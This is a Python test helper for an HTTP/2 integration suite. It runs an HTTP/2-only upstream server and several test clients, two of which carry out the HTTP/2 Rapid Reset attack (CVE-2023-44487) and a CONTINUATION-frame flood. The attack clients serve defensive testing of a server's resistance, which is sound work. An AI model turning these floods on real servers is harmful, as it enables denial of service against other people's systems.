"""HTTP/2 peers for tests/it/http2.rs, on the pinned `h2` package (raw frames, no framework).

  h2c-server PORT_FILE [CERT KEY]
                            an upstream that speaks only HTTP/2: in clear with prior knowledge,
                            or over TLS when given a certificate, where a client that does not
                            choose `h2` by ALPN is refused; answers every request with JSON (its path, method, headers, body
                            size and which connection carried it), and an OpenAI chat
                            completion on /v1/chat/completions
  requests URL N PAUSE      N GETs on one HTTP/2 connection (h2c for http://, ALPN h2 for
                            https://, CA in $CA_FILE), PAUSE seconds apart; each status, body,
                            how it ended, and its x-request-id and whether that was never indexed
  post URL SIZE             one POST of SIZE bytes of JSON-ish filler over h2c, sent while the
                            answer has not come; its status, body and how the stream ended
  rapid-reset HOST PORT N [PAUSE]
                            N streams opened and reset at once (CVE-2023-44487); with PAUSE
                            (seconds), each reset is sent that long after its HEADERS, so the
                            server has accepted the stream by then
  continuation HOST PORT N  one header block that never ends: HEADERS, then up to N
                            CONTINUATION frames without END_HEADERS

Each client prints one JSON object on stdout.
"""

import json
import socket
import socketserver
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame

CHAT = {
    "id": "chatcmpl-h2c",
    "object": "chat.completion",
    "created": 1700000000,
    "model": "h2c-model",
    "choices": [
        {
            "index": 0,
            "message": {"role": "assistant", "content": "over HTTP/2"},
            "finish_reason": "stop",
        }
    ],
    "usage": {"prompt_tokens": 3, "completion_tokens": 2, "total_tokens": 5},
}


class H2cHandler(socketserver.BaseRequestHandler):
    """One connection: HTTP/2 from the first byte, or it is closed."""

    def handle(self):
        server = self.server
        if server.tls is not None:
            try:
                self.request = server.tls.wrap_socket(self.request, server_side=True)
            except (OSError, ssl.SSLError):
                return
            if self.request.selected_alpn_protocol() != "h2":
                return
        with server.lock:
            server.connections += 1
            conn_no = server.connections
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=False))
        conn.initiate_connection()
        self.request.sendall(conn.data_to_send())
        bodies, heads = {}, {}
        while True:
            try:
                data = self.request.recv(65535)
            except OSError:
                return
            if not data:
                return
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.request.sendall(conn.data_to_send())
                return
            for ev in events:
                if isinstance(ev, h2.events.RequestReceived):
                    heads[ev.stream_id] = {k.decode(): v.decode() for k, v in ev.headers}
                    bodies[ev.stream_id] = 0
                elif isinstance(ev, h2.events.DataReceived):
                    bodies[ev.stream_id] += len(ev.data)
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                elif isinstance(ev, h2.events.StreamEnded):
                    self.answer(conn, ev.stream_id, heads.pop(ev.stream_id), bodies.pop(ev.stream_id), conn_no)
            self.request.sendall(conn.data_to_send())

    def answer(self, conn, sid, head, body_len, conn_no):
        path = head.get(":path", "")
        if path.endswith("/chat/completions"):
            body = json.dumps(CHAT).encode()
        else:
            body = json.dumps(
                {
                    "path": path,
                    "method": head.get(":method"),
                    "authority": head.get(":authority"),
                    "headers": {k: v for k, v in head.items() if not k.startswith(":")},
                    "body_len": body_len,
                    "connection": conn_no,
                }
            ).encode()
        conn.send_headers(
            sid,
            [(":status", "200"), ("content-type", "application/json"), ("content-length", str(len(body)))],
        )
        conn.send_data(sid, body, end_stream=True)


class Server(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True


def h2c_server(port_file, cert=None, key=None):
    srv = Server(("127.0.0.1", 0), H2cHandler)
    srv.tls = None
    if cert:
        srv.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        srv.tls.load_cert_chain(cert, key)
        srv.tls.set_alpn_protocols(["h2"])
    srv.lock = threading.Lock()
    srv.connections = 0
    with open(port_file + ".tmp", "w") as f:
        f.write(str(srv.server_address[1]))
    import os

    os.rename(port_file + ".tmp", port_file)
    srv.serve_forever()


def connect(url):
    scheme, rest = url.split("://", 1)
    hostport, _, path = rest.partition("/")
    host, port = hostport.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10)
    if scheme == "https":
        import os

        ctx = ssl.create_default_context(cafile=os.environ["CA_FILE"])
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname=host)
        assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    return sock, hostport, "/" + path, scheme


def client_conn(sock):
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return conn


def read_response(sock, conn, sid, heads=None):
    """The response's status, body and how it ended; its header fields go into `heads`."""
    status, body = None, b""
    while True:
        data = sock.recv(65535)
        if not data:
            return status, body, "closed"
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                status = int(dict(ev.headers)[":status"])
                if heads is not None:
                    heads.extend(ev.headers)
            elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
                body += ev.data
                conn.acknowledge_received_data(ev.flow_controlled_length, sid)
            elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                sock.sendall(conn.data_to_send())
                return status, body, None
            elif isinstance(ev, h2.events.ConnectionTerminated):
                return status, body, "goaway %d" % ev.error_code
        sock.sendall(conn.data_to_send())


def requests(url, n, pause):
    sock, authority, path, scheme = connect(url)
    conn = client_conn(sock)
    out = []
    for i in range(n):
        if i:
            time.sleep(pause)
        sid = conn.get_next_available_stream_id()
        conn.send_headers(
            sid,
            [(":method", "GET"), (":path", path), (":scheme", scheme), (":authority", authority)],
            end_stream=True,
        )
        sock.sendall(conn.data_to_send())
        heads = []
        try:
            status, body, end = read_response(sock, conn, sid, heads)
        except OSError as e:
            status, body, end = None, b"", "error %s" % e
        ids = [h for h in heads if h[0] == "x-request-id"]
        out.append({
            "status": status,
            "body": body.decode(errors="replace"),
            "end": end,
            "request_id": ids[0][1] if ids else None,
            # hpack decodes a field sent as a literal never indexed into this type.
            "request_id_never_indexed": bool(ids) and isinstance(ids[0], hpack.NeverIndexedHeaderTuple),
        })
        if end:
            break
    print(json.dumps(out))


def post(url, size):
    sock, authority, path, scheme = connect(url)
    conn = client_conn(sock)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(
        sid,
        [
            (":method", "POST"),
            (":path", path),
            (":scheme", scheme),
            (":authority", authority),
            ("content-type", "application/json"),
            ("content-length", str(size)),
        ],
    )
    sock.sendall(conn.data_to_send())
    left, status, body, reset = size, None, b"", None
    sock.settimeout(0.05)
    while reset is None:
        # Send what the windows allow, then read what came back.
        n = min(left, conn.local_flow_control_window(sid), 16384) if left else 0
        if n > 0:
            conn.send_data(sid, b"x" * n, end_stream=(n == left))
            left -= n
            sock.sendall(conn.data_to_send())
        try:
            data = sock.recv(65535)
        except socket.timeout:
            continue
        if not data:
            break
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived):
                status = int(dict(ev.headers)[":status"])
            elif isinstance(ev, h2.events.DataReceived):
                body += ev.data
                conn.acknowledge_received_data(ev.flow_controlled_length, sid)
            elif isinstance(ev, h2.events.StreamEnded) and not left:
                reset = "ended"
            elif isinstance(ev, h2.events.StreamReset):
                reset = ev.error_code
        sock.sendall(conn.data_to_send())
    print(json.dumps({"status": status, "body": body.decode(errors="replace"), "ended": reset, "unsent": left}))


def until_closed(sock, conn, deadline):
    """Reads until the server ends the connection; the GOAWAY code if it sent one."""
    goaway = None
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65535)
        except (ConnectionResetError, BrokenPipeError):
            return goaway, True
        except socket.timeout:
            continue
        if not data:
            return goaway, True
        try:
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ConnectionTerminated):
                    goaway = ev.error_code
        except h2.exceptions.ProtocolError:
            pass
    return goaway, False


def rapid_reset(host, port, n, pause=0.0):
    sock = socket.create_connection((host, int(port)), timeout=1)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = client_conn(sock)
    authority = "%s:%s" % (host, port)
    sent, write_failed = 0, False
    for _ in range(n):
        try:
            sid = conn.get_next_available_stream_id()
            conn.send_headers(
                sid,
                [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", authority)],
                end_stream=True,
            )
            if pause:
                sock.sendall(conn.data_to_send())
                time.sleep(pause)
            conn.reset_stream(sid)
            sock.sendall(conn.data_to_send())
            sent += 1
        except (OSError, h2.exceptions.ProtocolError):
            write_failed = True
            break
    goaway, closed = until_closed(sock, conn, time.monotonic() + 10)
    print(json.dumps({"sent": sent, "write_failed": write_failed, "goaway": goaway, "closed": closed}))


def continuation(host, port, n):
    sock = socket.create_connection((host, int(port)), timeout=1)
    conn = client_conn(sock)
    # A real header block start, then filler header fields (literal, not indexed) forever.
    block = conn.encoder.encode(
        [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "%s:%s" % (host, port))]
    )
    head = HeadersFrame(1)
    head.data = block
    head.flags.add("END_STREAM")
    # 160 literal fields `x: yyy...` (96 bytes of value each), never indexed: ~16 KiB a frame.
    filler = (b"\x00\x01x\x60" + b"y" * 96) * 160
    sent, write_failed = 0, False
    try:
        sock.sendall(head.serialize())
        for _ in range(n):
            f = ContinuationFrame(1)
            f.data = filler
            sock.sendall(f.serialize())
            sent += 1
    except OSError:
        write_failed = True
    goaway, closed = until_closed(sock, conn, time.monotonic() + 10)
    print(json.dumps({"sent": sent, "write_failed": write_failed, "goaway": goaway, "closed": closed}))


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "h2c-server":
        h2c_server(*args)
    elif cmd == "requests":
        requests(args[0], int(args[1]), float(args[2]))
    elif cmd == "post":
        post(args[0], int(args[1]))
    elif cmd == "rapid-reset":
        rapid_reset(args[0], args[1], int(args[2]), float(args[3]) if len(args) > 3 else 0.0)
    elif cmd == "continuation":
        continuation(args[0], args[1], int(args[2]))
    else:
        sys.exit("unknown command " + cmd)


if __name__ == "__main__":
    main()
